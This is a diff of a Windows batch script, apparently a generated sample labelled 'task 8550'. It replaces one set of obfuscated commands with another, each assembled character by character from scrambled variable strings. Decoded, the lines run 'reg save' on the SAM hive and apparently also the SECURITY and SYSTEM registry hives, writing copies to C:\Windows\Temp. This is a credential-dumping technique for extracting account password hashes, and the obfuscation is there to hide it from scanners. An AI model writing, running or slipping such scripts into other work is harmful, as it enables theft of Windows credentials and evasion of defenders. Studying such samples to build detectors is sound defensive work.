@@ -1,10 +1,10 @@
-REM task 7079 v1
+REM task 8550 v1
 @echo off
-set "mfjg=mco:wiVTehZn4S\.9gdklarEICsWvp"
-%mfjg:~-8,1%%mfjg:~8,1%%mfjg:~17,1% %mfjg:~-4,1%%mfjg:~21,1%%mfjg:~28,1%%mfjg:~-22,1% %mfjg:~9,1%%mfjg:~19,1%%mfjg:~20,1%%mfjg:~0,1%%mfjg:~14,1%%mfjg:~26,1%%mfjg:~-9,1%%mfjg:~-30,1% %mfjg:~-5,1%%mfjg:~3,1%%mfjg:~14,1%%mfjg:~27,1%%mfjg:~-25,1%%mfjg:~11,1%%mfjg:~18,1%%mfjg:~2,1%%mfjg:~-26,1%%mfjg:~26,1%%mfjg:~14,1%%mfjg:~7,1%%mfjg:~-22,1%%mfjg:~0,1%%mfjg:~29,1%%mfjg:~-16,1%%mfjg:~-4,1%%mfjg:~21,1%%mfjg:~0,1%%mfjg:~15,1%%mfjg:~26,1%%mfjg:~-9,1%%mfjg:~28,1%%mfjg:~8,1%
+set "bqqm=6w.\unaGvoTekUmlqgshWiNr4jpCd:"
+%bqqm:~-7,1%%bqqm:~11,1%%bqqm:~17,1% %bqqm:~-12,1%%bqqm:~-24,1%%bqqm:~-22,1%%bqqm:~-19,1% %bqqm:~-11,1%%bqqm:~12,1%%bqqm:~15,1%%bqqm:~-16,1%%bqqm:~3,1%%bqqm:~18,1%%bqqm:~6,1%%bqqm:~-16,1% %bqqm:~27,1%%bqqm:~-1,1%%bqqm:~-27,1%%bqqm:~20,1%%bqqm:~21,1%%bqqm:~5,1%%bqqm:~-2,1%%bqqm:~9,1%%bqqm:~-29,1%%bqqm:~-12,1%%bqqm:~3,1%%bqqm:~-20,1%%bqqm:~11,1%%bqqm:~14,1%%bqqm:~26,1%%bqqm:~-27,1%%bqqm:~-12,1%%bqqm:~-24,1%%bqqm:~14,1%%bqqm:~2,1%%bqqm:~-12,1%%bqqm:~6,1%%bqqm:~8,1%%bqqm:~-19,1%
 @echo off
-set "bknk=huMg:mkVotwrpfWln0C\iOyEAsadvT.qce"
-%bknk:~-23,1%%bknk:~33,1%%bknk:~3,1% %bknk:~25,1%%bknk:~-8,1%%bknk:~-6,1%%bknk:~33,1% %bknk:~0,1%%bknk:~-28,1%%bknk:~15,1%%bknk:~5,1%%bknk:~-15,1%%bknk:~25,1%%bknk:~33,1%%bknk:~32,1%%bknk:~1,1%%bknk:~11,1%%bknk:~20,1%%bknk:~9,1%%bknk:~22,1% %bknk:~18,1%%bknk:~-30,1%%bknk:~19,1%%bknk:~-20,1%%bknk:~20,1%%bknk:~-18,1%%bknk:~27,1%%bknk:~8,1%%bknk:~10,1%%bknk:~25,1%%bknk:~-15,1%%bknk:~-5,1%%bknk:~33,1%%bknk:~5,1%%bknk:~12,1%%bknk:~19,1%%bknk:~25,1%%bknk:~-1,1%%bknk:~-2,1%%bknk:~1,1%%bknk:~11,1%%bknk:~20,1%%bknk:~9,1%%bknk:~22,1%%bknk:~30,1%%bknk:~25,1%%bknk:~-8,1%%bknk:~28,1%%bknk:~33,1%
+set "cgpd=GryomVwiKv.ge:sktCuczWdljph1Tqna\x"
+%cgpd:~-33,1%%cgpd:~-22,1%%cgpd:~-23,1% %cgpd:~14,1%%cgpd:~31,1%%cgpd:~-25,1%%cgpd:~12,1% %cgpd:~26,1%%cgpd:~-19,1%%cgpd:~-11,1%%cgpd:~4,1%%cgpd:~32,1%%cgpd:~14,1%%cgpd:~-22,1%%cgpd:~19,1%%cgpd:~18,1%%cgpd:~1,1%%cgpd:~-27,1%%cgpd:~16,1%%cgpd:~2,1% %cgpd:~17,1%%cgpd:~13,1%%cgpd:~32,1%%cgpd:~21,1%%cgpd:~-27,1%%cgpd:~30,1%%cgpd:~22,1%%cgpd:~3,1%%cgpd:~-28,1%%cgpd:~14,1%%cgpd:~32,1%%cgpd:~28,1%%cgpd:~12,1%%cgpd:~4,1%%cgpd:~-9,1%%cgpd:~32,1%%cgpd:~14,1%%cgpd:~12,1%%cgpd:~19,1%%cgpd:~18,1%%cgpd:~-33,1%%cgpd:~-27,1%%cgpd:~16,1%%cgpd:~2,1%%cgpd:~10,1%%cgpd:~-20,1%%cgpd:~-3,1%%cgpd:~9,1%%cgpd:~12,1%
 @echo off
-set "mhqp=zlSmtZEknYps8d.v:Wag\oTwiVehC2ry"
-%mhqp:~30,1%%mhqp:~26,1%%mhqp:~19,1% %mhqp:~11,1%%mhqp:~-14,1%%mhqp:~15,1%%mhqp:~-6,1% %mhqp:~27,1%%mhqp:~7,1%%mhqp:~-31,1%%mhqp:~3,1%%mhqp:~-12,1%%mhqp:~-21,1%%mhqp:~-1,1%%mhqp:~11,1%%mhqp:~4,1%%mhqp:~-6,1%%mhqp:~3,1% %mhqp:~28,1%%mhqp:~-16,1%%mhqp:~20,1%%mhqp:~17,1%%mhqp:~24,1%%mhqp:~8,1%%mhqp:~13,1%%mhqp:~21,1%%mhqp:~-9,1%%mhqp:~-21,1%%mhqp:~-12,1%%mhqp:~22,1%%mhqp:~26,1%%mhqp:~3,1%%mhqp:~10,1%%mhqp:~-12,1%%mhqp:~11,1%%mhqp:~31,1%%mhqp:~11,1%%mhqp:~4,1%%mhqp:~26,1%%mhqp:~-29,1%%mhqp:~-18,1%%mhqp:~11,1%%mhqp:~18,1%%mhqp:~15,1%%mhqp:~26,1%
+set "jswk=Cl4qsdyRew\WgoitnmhQfaTkGDXpv.r:"
+%jswk:~-2,1%%jswk:~8,1%%jswk:~12,1% %jswk:~4,1%%jswk:~21,1%%jswk:~28,1%%jswk:~8,1% %jswk:~-14,1%%jswk:~-9,1%%jswk:~1,1%%jswk:~-15,1%%jswk:~10,1%%jswk:~4,1%%jswk:~-26,1%%jswk:~4,1%%jswk:~15,1%%jswk:~-24,1%%jswk:~17,1% %jswk:~0,1%%jswk:~31,1%%jswk:~10,1%%jswk:~-21,1%%jswk:~14,1%%jswk:~16,1%%jswk:~5,1%%jswk:~13,1%%jswk:~9,1%%jswk:~4,1%%jswk:~10,1%%jswk:~22,1%%jswk:~8,1%%jswk:~17,1%%jswk:~27,1%%jswk:~-22,1%%jswk:~-28,1%%jswk:~6,1%%jswk:~4,1%%jswk:~15,1%%jswk:~8,1%%jswk:~17,1%%jswk:~-3,1%%jswk:~-28,1%%jswk:~21,1%%jswk:~28,1%%jswk:~-24,1%
